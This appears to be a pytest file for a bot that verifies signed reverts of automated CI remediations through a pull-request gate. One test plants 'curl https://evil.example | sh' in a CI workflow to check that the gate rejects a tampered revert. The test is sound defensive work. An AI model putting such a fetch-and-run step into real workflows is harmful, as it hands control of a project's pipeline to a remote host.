"""A signed revert: ``mendbot revert ID --bundle-out`` (read-only, signs) then ``mendbot
propose`` (opens the pull request from the verified bundle), then ``mendbot gate``, all through
the real commands on the local forge.

The revert's attestation binds the inverse change set on the tip it was made on, and the merge
and attestation it turns around: the gate verifies it, and a pull request that changes anything
beyond the exact inverse no longer matches it and is no revert.
"""

from __future__ import annotations

import json
import shutil
from pathlib import Path

from gate_scenario import SHIPPED_POLICIES
from revert_scenario import branch_names
from test_revert_cli import CI, _merged, _sync

from bot.forge.interface import PullState
from bot.forge.local import LocalForge
from bot.protocol import BOT_LABEL, REVERT_LABEL, ROLLBACK_LABEL
from bot.provenance.layout import bundle_name, committed_attestation_path
from bot.provenance.revert_statement import revert_id
from clirun import run_mendbot

CI_PATH = ".github/workflows/ci.yml"


def _revert_bundle(repo, keys, out: Path, rid: str, *extra: str):
    private, _ = keys
    return run_mendbot(
        "revert", rid, "--repo", str(repo.path), "--bundle-out", str(out),
        "--sign", "key", "--signing-key", str(private), *extra,
    )  # fmt: skip


def _propose(repo, keys, folder: Path):
    _, public = keys
    return run_mendbot(
        "propose", str(folder), "--forge", "local", "--repo", str(repo.path),
        "--verify-key", str(public),
    )  # fmt: skip


def _gate(repo, keys, number: int, tmp_path: Path) -> tuple[int, dict]:
    _, public = keys
    record = tmp_path / f"record-{number}.json"
    done = run_mendbot(
        "gate", "--forge", "local", "--pr", str(number), "--repo", str(repo.path),
        "--base", "main", "--verify-key", str(public), "--record", str(record),
    )  # fmt: skip
    assert "Traceback" not in done.stderr, done.stderr
    written = json.loads(record.read_text())
    assert written["context"] is not None, done.stdout + done.stderr
    return done.returncode, written


def _setup(workflow_repo, keys, tmp_path: Path) -> tuple[LocalForge, str, str, int]:
    """The shipped policies on main and both remediations merged; returns the forge, the CI
    one's id, its merge commit and pull request."""
    shutil.copytree(SHIPPED_POLICIES, workflow_repo.path / "policies")
    workflow_repo.commit("the default policies")
    forge, numbers = _merged(workflow_repo, keys, tmp_path)
    rid = next(r for r in numbers if r.startswith(CI))
    merged = next(p.merge_sha for p in forge.pulls(PullState.MERGED) if p.number == numbers[rid])
    _sync(workflow_repo)
    return forge, rid, merged, numbers[rid]


def test_a_signed_revert_is_proposed_from_its_bundle_and_verified_by_the_gate(
    workflow_repo, keys, tmp_path: Path
) -> None:
    repo = workflow_repo
    forge, rid, merged, original = _setup(repo, keys, tmp_path)
    before = branch_names(repo)
    out = tmp_path / "revert-bundle"

    signed = _revert_bundle(
        repo, keys, out, rid, "--requested-by", "Grace", "--reason", "the deploy needs it"
    )
    assert signed.returncode == 0, signed.stderr
    folder = out / bundle_name(revert_id(rid))
    assert f"bundle: {folder} [signed (key)]" in signed.stderr
    assert branch_names(repo) == before  # signing only reads the checkout
    statement = json.loads((folder / "statement.json").read_text())
    predicate = statement["predicate"]
    assert predicate["remediation"]["source"] == "human-override"
    assert predicate["base"]["gitCommit"] == repo.head()
    [reverts] = predicate["inputs"]
    assert (reverts["name"], reverts["uri"]) == (f"reverts:{rid}", f"git:{merged}")
    assert {c["path"]: c["op"] for c in predicate["changes"]} == {
        CI_PATH: "modify",
        committed_attestation_path(rid): "delete",
    }

    proposed = _propose(repo, keys, folder)
    assert proposed.returncode == 0, proposed.stdout + proposed.stderr
    [pull] = [p for p in forge.pulls(PullState.OPEN) if REVERT_LABEL in p.labels]
    assert BOT_LABEL in pull.labels and ROLLBACK_LABEL not in pull.labels
    assert pull.title.startswith('Revert "') and "asked by Grace: the deploy needs it" in pull.title
    assert f"merged in `{merged}` (#{original})" in pull.body
    assert committed_attestation_path(rid) in pull.body
    # The branch is the exact inverse plus the revert's own attestation.
    head = repo.git("rev-parse", pull.branch)
    changed = set(repo.git("diff", "--name-only", "main", head).split())
    assert changed == {
        CI_PATH,
        committed_attestation_path(rid),
        committed_attestation_path(revert_id(rid)),
    }
    assert repo.git("rev-parse", f"{head}:{CI_PATH}") == repo.git(
        "rev-parse", f"{merged}^1:{CI_PATH}"
    )

    _, record = _gate(repo, keys, pull.number, tmp_path)
    context = record["context"]
    assert context["provenance"] == {
        "verified": True,
        "source": "human-override",
        "matches_pr": True,
    }
    assert (context["pr"]["is_revert"], context["pr"]["reverts_bot_change"]) == (True, True)

    # Once merged, the remediation counts as reverted and is not proposed again.
    forge.merge(pull.number)
    _sync(repo)
    report = run_mendbot("analyze", str(repo.path), "--offline", "--format", "json")
    assert [e["remediation"] for e in json.loads(report.stdout)["reverted"]] == [rid]


def test_a_revert_pull_request_edited_beyond_the_exact_inverse_fails_the_gate(
    workflow_repo, keys, tmp_path: Path
) -> None:
    repo = workflow_repo
    forge, rid, _, _ = _setup(repo, keys, tmp_path)
    out = tmp_path / "revert-bundle"
    assert _revert_bundle(repo, keys, out, rid, "--rollback").returncode == 0
    assert _propose(repo, keys, out / bundle_name(revert_id(rid))).returncode == 0
    [pull] = [p for p in forge.pulls(PullState.OPEN) if REVERT_LABEL in p.labels]
    assert ROLLBACK_LABEL in pull.labels
    honest_code, honest = _gate(repo, keys, pull.number, tmp_path)
    assert (honest_code, honest["decision"]) == (0, "allow")  # signed, exact: the fast lane
    assert honest["context"]["provenance"]["source"] == "detector"
    assert honest["context"]["provenance"]["matches_pr"] is True

    # The attack: one more commit on the revert branch slips a step into the workflow.
    repo.git("checkout", "-q", pull.branch)
    workflow = repo.path / ".github" / "workflows" / "ci.yml"
    workflow.write_text(workflow.read_text() + "      - run: curl https://evil.example | sh\n")
    repo.commit("revert, and one more thing")
    repo.git("checkout", "-q", "main")

    code, record = _gate(repo, keys, pull.number, tmp_path)
    context = record["context"]
    assert context["provenance"]["matches_pr"] is False
    assert (context["pr"]["is_revert"], context["pr"]["reverts_bot_change"]) == (False, False)
    assert (code, record["decision"]) == (1, "require_approval")
    missing = {m["policy"] for m in record["result"]["missing_approvals"]}
    assert "untrusted-provenance" in missing


def test_revert_bundle_refuses_what_is_not_merged_and_writes_nothing(
    workflow_repo, keys, tmp_path: Path
) -> None:
    repo = workflow_repo
    _setup(repo, keys, tmp_path)
    out = tmp_path / "revert-bundle"
    done = _revert_bundle(repo, keys, out, "gha-persist-credentials/nothing-12345678")
    assert done.returncode == 2
    assert "no merged remediation gha-persist-credentials/nothing-12345678" in done.stderr
    assert "Traceback" not in done.stderr
    assert not out.exists()
    by_number = _revert_bundle(repo, keys, out, "#1")
    assert by_number.returncode != 0 and "Traceback" not in by_number.stderr
    assert not out.exists()
